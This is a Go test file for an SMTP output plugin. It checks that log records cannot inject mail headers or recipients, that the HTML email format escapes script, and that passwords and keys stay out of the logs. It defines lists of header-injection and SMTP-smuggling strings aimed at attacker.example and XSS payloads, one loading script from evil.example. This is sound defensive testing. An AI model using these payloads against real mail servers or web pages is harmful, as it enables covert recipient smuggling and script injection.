package pipeline

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"html"
	"io"
	stdlog "log"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net/mail"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/emersion/go-sasl"
	"github.com/emersion/go-smtp"
	"github.com/google/go-cmp/cmp"

	"github.com/smtpout/smtpout/chunk"
	"github.com/smtpout/smtpout/config"
	"github.com/smtpout/smtpout/mailer"
	"github.com/smtpout/smtpout/output"
	"github.com/smtpout/smtpout/testsupport/testcert"
)

// securityConfig has To (with a display name), Cc and Bcc, and a subject that uses every
// kind of record accessor token.
func securityConfig(t testing.TB, readable bool) config.Config {
	t.Helper()
	subj, err := config.ParseTemplate("Alert $TAG / $TAG[1] / $msg / $user['name'] / $missing")
	if err != nil {
		t.Fatal(err)
	}
	cfg := testConfig()
	cfg.To = []mail.Address{{Name: "SOC", Address: "soc@example.com"}, {Address: "oncall@example.com"}}
	cfg.Cc = []mail.Address{{Name: "Doe, John", Address: "jd@example.com"}}
	cfg.Bcc = []mail.Address{{Address: "audit@example.com"}}
	cfg.Subject = subj
	cfg.Readable = readable
	return cfg
}

// capture is a Sender that keeps every message and delivers it.
type capture struct {
	mu   sync.Mutex
	msgs []mailer.Message
}

func (c *capture) Send(_ context.Context, msgs []mailer.Message) []mailer.Result {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.msgs = append(c.msgs, msgs...)
	return make([]mailer.Result, len(msgs)) // the zero Result is Delivered
}

func (c *capture) Close() error { return nil }

func (c *capture) take() []mailer.Message {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := c.msgs
	c.msgs = nil
	return out
}

// email is a message taken apart with the standard library only.
type email struct {
	header  mail.Header
	keys    []string // canonical header names, sorted, duplicates kept
	subject string   // decoded
	text    []byte   // decoded text/plain content
	html    string   // decoded text/html content
	parts   []string // media types of the parts
}

func parseEmail(t *testing.T, data []byte) email {
	t.Helper()
	msg, err := mail.ReadMessage(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("mail.ReadMessage: %v\n%s", err, data)
	}
	e := email{header: msg.Header}
	for k, vs := range msg.Header {
		for range vs {
			e.keys = append(e.keys, k)
		}
	}
	slices.Sort(e.keys)
	var dec mime.WordDecoder
	if e.subject, err = dec.DecodeHeader(msg.Header.Get("Subject")); err != nil {
		t.Fatalf("decode Subject: %v", err)
	}
	mt, params, err := mime.ParseMediaType(msg.Header.Get("Content-Type"))
	if err != nil {
		t.Fatalf("Content-Type: %v", err)
	}
	qp := func(r io.Reader) []byte {
		b, err := io.ReadAll(quotedprintable.NewReader(r))
		if err != nil {
			t.Fatalf("quoted-printable: %v", err)
		}
		return b
	}
	if mt == "text/plain" {
		e.parts = []string{mt}
		e.text = qp(msg.Body)
		return e
	}
	mr := multipart.NewReader(msg.Body, params["boundary"])
	for {
		p, err := mr.NextRawPart()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("multipart: %v", err)
		}
		pmt, _, _ := mime.ParseMediaType(p.Header.Get("Content-Type"))
		e.parts = append(e.parts, pmt)
		switch pmt {
		case "text/plain":
			e.text = qp(p)
		case "text/html":
			e.html = string(qp(p))
		}
	}
	return e
}

// injections are values that try to end a header line, start a new header, end the headers,
// end the message (SMTP smuggling) or open a MIME part.
var injections = []string{
	"x\r\nBcc: evil@attacker.example",
	"x\nTo: evil@attacker.example",
	"x\rCc: evil@attacker.example",
	"x\r\n\r\nbody injected",
	"x\r\n.\r\nMAIL FROM:<evil@attacker.example>\r\nRCPT TO:<evil@attacker.example>\r\nDATA\r\n",
	"x\n.\nRCPT TO:<evil@attacker.example>\n",
	"x\r\n Bcc: folded@attacker.example",
	"x\u2028Bcc: ls@attacker.example\u2029",
	"x\u0085Bcc: nel@attacker.example",
	"x\x00Bcc: nul@attacker.example",
	"x\x0bBcc: vt@attacker.example\x0c",
	"=?UTF-8?Q?x=0D=0ABcc:_encoded@attacker.example?=",
	"--=_smtpout_00000000000000000000000000000000\r\nContent-Type: text/html\r\n\r\n<b>part</b>",
	strings.Repeat("A", 1200) + "\r\nBcc: long@attacker.example",
	"é\r\nBcc: utf8@attacker.example",
}

// TestRecordCannotInjectHeadersOrRecipients sends records carrying each injection in every
// place a record reaches the email (tag, subject keys, field names, values, nested keys),
// through Flush with the real renderer, and checks that each message has exactly the
// configured headers and envelope recipients.
func TestRecordCannotInjectHeadersOrRecipients(t *testing.T) {
	for _, readable := range []bool{false, true} {
		t.Run("readable="+strconv.FormatBool(readable), func(t *testing.T) {
			cfg := securityConfig(t, readable)
			r, err := output.New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			c := &capture{}
			in := NewInstance(r, c, &recorder{Max: LevelTrace}, Options{})
			t.Cleanup(func() { _ = in.Close() })

			wantKeys := []string{"Cc", "Content-Type", "Date", "From", "Message-Id", "Mime-Version",
				"Subject", "To", "X-Fluent-Tag", "X-Smtpout-Signature"}
			wantParts := []string{"text/plain", "text/html"}
			if !readable {
				wantKeys = append(wantKeys, "Content-Transfer-Encoding")
				wantParts = []string{"text/plain"}
			}
			slices.Sort(wantKeys)
			wantTo := []*mail.Address{{Name: "SOC", Address: "soc@example.com"}, {Address: "oncall@example.com"}}
			wantCc := []*mail.Address{{Name: "Doe, John", Address: "jd@example.com"}}
			// Written by hand, not from cfg.Recipients(): To, Cc, Bcc, each once.
			wantRcpt := []string{"soc@example.com", "oncall@example.com", "jd@example.com", "audit@example.com"}

			for i, v := range injections {
				tag := "app." + v
				rec := map[string]any{
					"msg":    v,
					"user":   map[string]any{"name": v},
					v:        v,
					"nested": map[string]any{v: []any{v, map[string]any{v: v}}},
				}
				var e chunk.Encoder
				e.AppendV2(t0, nil, rec)
				code, st := in.Flush(tag, e.Bytes())
				if code != FLBOK || st.Delivered != 1 {
					t.Fatalf("injection %d: Flush() = %d %+v, want one delivered", i, code, st)
				}
				msgs := c.take()
				if len(msgs) != 1 {
					t.Fatalf("injection %d: %d messages sent, want 1", i, len(msgs))
				}
				m := msgs[0]
				if m.From != "fb@example.com" {
					t.Errorf("injection %d: envelope sender %q", i, m.From)
				}
				if diff := cmp.Diff(wantRcpt, m.To); diff != "" {
					t.Errorf("injection %d: envelope recipients (-want +got):\n%s", i, diff)
				}
				checkWire(t, i, m.Data)
				p := parseEmail(t, m.Data)
				if diff := cmp.Diff(wantKeys, p.keys); diff != "" {
					t.Errorf("injection %d %q: header set (-want +got):\n%s", i, v, diff)
				}
				to, err := p.header.AddressList("To")
				if err != nil {
					t.Errorf("injection %d: To: %v", i, err)
				}
				if diff := cmp.Diff(wantTo, to); diff != "" {
					t.Errorf("injection %d: To (-want +got):\n%s", i, diff)
				}
				cc, err := p.header.AddressList("Cc")
				if err != nil {
					t.Errorf("injection %d: Cc: %v", i, err)
				}
				if diff := cmp.Diff(wantCc, cc); diff != "" {
					t.Errorf("injection %d: Cc (-want +got):\n%s", i, diff)
				}
				if diff := cmp.Diff(wantParts, p.parts); diff != "" {
					t.Errorf("injection %d: MIME parts (-want +got):\n%s", i, diff)
				}
				if strings.ContainsAny(p.subject, "\r\n") || strings.ContainsAny(p.header.Get("X-Fluent-Tag"), "\r\n") {
					t.Errorf("injection %d: decoded Subject %q or tag %q holds CR/LF", i, p.subject, p.header.Get("X-Fluent-Tag"))
				}
				if err := output.Verify(bytes.NewReader(m.Data), []byte(cfg.SecretKey.Reveal())); err != nil {
					t.Errorf("injection %d: Verify: %v", i, err)
				}
				// The data is carried, not lost: the signed JSON holds the value as sent.
				var got map[string]any
				if err := json.Unmarshal(p.text, &got); err != nil {
					t.Fatalf("injection %d: payload is not JSON: %v", i, err)
				}
				if want := strings.ToValidUTF8(v, "\uFFFD"); got["msg"] != want {
					t.Errorf("injection %d: payload msg = %q, want %q", i, got["msg"], want)
				}
			}
		})
	}
}

// checkWire checks the message as the mailer will put it on the wire: every line ends in CRLF
// (no bare CR or LF to smuggle a command), none exceeds 998 octets, and no header line is a
// lone ".". (Folded Subject lines may show "Bcc:" as text: the header set proves it is text.)
func checkWire(t *testing.T, i int, data []byte) {
	t.Helper()
	if !bytes.HasSuffix(data, []byte("\r\n")) {
		t.Errorf("injection %d: message does not end in CRLF", i)
	}
	header := true
	for n, line := range strings.Split(strings.TrimSuffix(string(data), "\r\n"), "\r\n") {
		if strings.ContainsAny(line, "\r\n") {
			t.Errorf("injection %d: line %d has a bare CR or LF: %q", i, n+1, line)
		}
		if len(line) > 998 {
			t.Errorf("injection %d: line %d is %d octets", i, n+1, len(line))
		}
		if line == "" {
			header = false
		}
		if header && line == "." {
			t.Errorf("injection %d: header line %d = %q", i, n+1, line)
		}
	}
}

// xss are values that try to run script in the readable format.
var xss = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`" onmouseover="alert(1)`,
	`' onfocus='alert(1)' autofocus '`,
	`javascript:alert(1)`,
	`<a href="javascript:alert(1)">click</a>`,
	`<svg/onload=alert(1)>`,
	`</td></tr></table><script>alert(1)</script>`,
	`<style>body{background:url("javascript:alert(1)")}</style>`,
	`<!--<script>alert(1)//-->`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`{{.Subject}}`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
}

// tagRE finds the tags of an HTML document; attrRE the attributes inside one.
var (
	tagRE  = regexp.MustCompile(`<(/?)([A-Za-z!][A-Za-z0-9-]*)([^>]*)>`)
	attrRE = regexp.MustCompile(`([A-Za-z_:][-A-Za-z0-9_:.]*)\s*(?:=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?`)
)

// The elements and attributes the readable format uses: anything else came from data.
var (
	allowedTags  = []string{"!doctype", "html", "head", "meta", "title", "body", "div", "h1", "p", "table", "tbody", "tr", "th", "td", "span", "ul", "li", "wbr"}
	allowedAttrs = []string{"lang", "charset", "name", "content", "style", "width", "cellpadding", "colspan", "html"}
)

// TestReadableFormatEscapesScript renders records carrying script in the tag, the subject,
// field names and values, and checks the HTML part: only the template's own elements and
// attributes, no <script>, no on* attribute, no javascript: URL, and every value shown as
// text.
func TestReadableFormatEscapesScript(t *testing.T) {
	cfg := securityConfig(t, true)
	r, err := output.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	c := &capture{}
	in := NewInstance(r, c, &recorder{Max: LevelInfo}, Options{})
	t.Cleanup(func() { _ = in.Close() })
	for i, v := range xss {
		var e chunk.Encoder
		e.AppendV2(t0, nil, map[string]any{"msg": v, "user": map[string]any{"name": v}, v: v, "list": []any{v}})
		if code, _ := in.Flush("app."+v, e.Bytes()); code != FLBOK {
			t.Fatalf("xss %d: Flush() = %d", i, code)
		}
		msgs := c.take()
		if len(msgs) != 1 {
			t.Fatalf("xss %d: %d messages", i, len(msgs))
		}
		h := parseEmail(t, msgs[0].Data).html
		if h == "" {
			t.Fatalf("xss %d: no HTML part", i)
		}
		lower := strings.ToLower(h)
		if strings.Contains(lower, "<script") || strings.Contains(lower, "<svg") || strings.Contains(lower, "<iframe") || strings.Contains(lower, "<img") {
			t.Errorf("xss %d %q: raw active element in the HTML", i, v)
		}
		for _, m := range tagRE.FindAllStringSubmatch(h, -1) {
			name := strings.ToLower(m[2])
			if !slices.Contains(allowedTags, name) {
				t.Errorf("xss %d %q: element <%s> is not the template's", i, v, m[2])
			}
			for _, a := range attrRE.FindAllStringSubmatch(m[3], -1) {
				an := strings.ToLower(a[1])
				val := html.UnescapeString(a[2] + a[3] + a[4])
				if strings.HasPrefix(an, "on") || !slices.Contains(allowedAttrs, an) {
					t.Errorf("xss %d %q: attribute %q on <%s>", i, v, a[1], m[2])
				}
				if strings.Contains(strings.ToLower(val), "javascript:") || strings.Contains(strings.ToLower(val), "url(") {
					t.Errorf("xss %d %q: attribute %s=%q carries a URL", i, v, a[1], val)
				}
			}
		}
		// The value is shown, as text: unescaping the document gives it back.
		// (NUL is shown as U+FFFD.)
		want := strings.ReplaceAll(strings.ToValidUTF8(v, "\uFFFD"), "\x00", "\uFFFD")
		if !strings.Contains(html.UnescapeString(h), want) {
			t.Errorf("xss %d: the value %q is not shown as text", i, v)
		}
	}
}

// --- Secrets in logs -------------------------------------------------------------------

// logServer is an in-process SMTP server (implicit TLS) for the secret tests: AUTH with one
// user, and every recipient refused with 550 when reject is set.
type logServer struct {
	user, pass string
	reject     bool
	mu         sync.Mutex
	authOK     int
	messages   [][]byte // every message stored
}

func (b *logServer) NewSession(*smtp.Conn) (smtp.Session, error) { return &logSession{b: b}, nil }

type logSession struct {
	b      *logServer
	authed bool
}

func (s *logSession) AuthMechanisms() []string { return []string{sasl.Plain} }
func (s *logSession) Auth(string) (sasl.Server, error) {
	return sasl.NewPlainServer(func(_, user, pass string) error {
		if user != s.b.user || pass != s.b.pass {
			return &smtp.SMTPError{Code: 535, EnhancedCode: smtp.EnhancedCode{5, 7, 8}, Message: "Authentication credentials invalid"}
		}
		s.authed = true
		s.b.mu.Lock()
		s.b.authOK++
		s.b.mu.Unlock()
		return nil
	}), nil
}
func (s *logSession) Mail(string, *smtp.MailOptions) error {
	if !s.authed {
		return &smtp.SMTPError{Code: 530, EnhancedCode: smtp.EnhancedCode{5, 7, 0}, Message: "Authentication required"}
	}
	return nil
}
func (s *logSession) Rcpt(to string, _ *smtp.RcptOptions) error {
	if s.b.reject {
		return &smtp.SMTPError{Code: 550, EnhancedCode: smtp.EnhancedCode{5, 1, 1}, Message: "no such user " + to}
	}
	return nil
}
func (s *logSession) Data(r io.Reader) error {
	b, err := io.ReadAll(r)
	s.b.mu.Lock()
	s.b.messages = append(s.b.messages, b)
	s.b.mu.Unlock()
	return err
}
func (s *logSession) Reset()        {}
func (s *logSession) Logout() error { return nil }

// startLogServer starts b on 127.0.0.1:0 with implicit TLS and returns its address and CA.
func startLogServer(t *testing.T, b *logServer) (string, *testcert.Cert) {
	t.Helper()
	cert := testcert.New(t)
	srv := smtp.NewServer(b)
	srv.Domain = "localhost"
	srv.ReadTimeout, srv.WriteTimeout = time.Minute, time.Minute
	srv.ErrorLog = stdlog.New(io.Discard, "", 0)
	l, err := tls.Listen("tcp", "127.0.0.1:0", cert.ServerTLS())
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { srv.Close() })
	return l.Addr().String(), cert
}

// secretForms are the ways a secret could leak: as is, and as AUTH PLAIN or LOGIN would put
// it on the wire.
func secretForms(user, pass, key string) []string {
	b64 := base64.StdEncoding.EncodeToString
	return []string{
		pass, key,
		b64([]byte(pass)),
		b64([]byte("\x00" + user + "\x00" + pass)),
		b64([]byte(user + "\x00" + user + "\x00" + pass)),
		strconv.Quote(pass)[1 : len(strconv.Quote(pass))-1],
		b64([]byte(key)),
	}
}

// TestSecretsNeverLogged drives Open, Flush and Close with a logger at trace level through
// failures that log: configuration problems, an AUTH failure, rejections (with dead letters)
// and a shutdown, and checks that neither password nor secret_key appears in any line in any
// form.
func TestSecretsNeverLogged(t *testing.T) {
	const user = "fb"
	b := &logServer{user: user, pass: password}
	addr, cert := startLogServer(t, b)
	dir := t.TempDir()
	keys := func() config.MapGetter {
		k := goodKeys() // password and secret_key are the package's never-log constants
		k["dest_host"] = addr
		k["tls_ca_file"] = cert.CAFile
		k["tls_server_name"] = "localhost"
		k["username"] = user
		k["dead_letter_dir"] = dir
		k["timeout"] = "10s"
		return k
	}
	log := &recorder{Max: LevelTrace}

	// 1. Configuration problems, with both secrets set.
	bad := keys()
	bad["is_readable"] = "maybe"
	bad["dest_host"] = "bad host:99999"
	bad["secret_key"] = password[:8] // short: a warning path too, though Parse fails first
	delete(bad, "username")
	if in := Open(bad, log, Options{}); in != nil {
		in.Close()
		t.Fatalf("Open with bad keys started")
	}
	short := keys()
	short["secret_key"] = "Short-Secret-1"
	if in := Open(short, log, Options{}); in == nil {
		t.Fatalf("Open with a short secret failed:\n%s", log.all())
	} else {
		in.Close()
	}

	// 2. A wrong password: AUTH fails with 535 and the chunk is retried.
	b.pass = "the-server-wants-another-password"
	in := Open(keys(), log, Options{})
	if in == nil {
		t.Fatalf("Open failed:\n%s", log.all())
	}
	if code, _ := in.Flush("app", records(2, nil)); code != FLBRetry {
		t.Errorf("Flush with a wrong password = %d, want FLBRetry", code)
	}
	in.Close()
	if !strings.Contains(log.all(), "535") {
		t.Errorf("no line reports the AUTH failure:\n%s", log.all())
	}

	// 3. The right password, every recipient refused: rejections, dead letters.
	b.pass, b.reject = password, true
	in = Open(keys(), log, Options{})
	if in == nil {
		t.Fatalf("Open failed:\n%s", log.all())
	}
	code, st := in.Flush("app", records(2, nil))
	if code != FLBOK || st.Rejected != 2 {
		t.Errorf("Flush with rejections = %d %+v, want FLBOK and 2 rejected", code, st)
	}
	in.Close()
	if b.authOK == 0 || !strings.Contains(log.all(), "email rejected") || !strings.Contains(log.all(), "dead letter written") {
		t.Errorf("the rejection path was not taken (auth ok %d):\n%s", b.authOK, log.all())
	}

	all := log.all()
	for _, lvl := range []Level{LevelError, LevelWarn, LevelInfo, LevelDebug} {
		if len(log.at(lvl)) == 0 {
			t.Errorf("no [%s] line was logged: the test does not cover that level", lvl)
		}
	}
	for _, s := range append(secretForms(user, password, secretKey), "Short-Secret-1", password[:8]) {
		if strings.Contains(all, s) {
			t.Errorf("the log contains a secret form %q:\n%s", s, all)
		}
	}
	if !strings.Contains(all, "password=[redacted] secret_key=[redacted]") {
		t.Errorf("the started line does not redact the secrets:\n%s", all)
	}
	if testing.Verbose() {
		t.Logf("log:\n%s", all)
	}
}
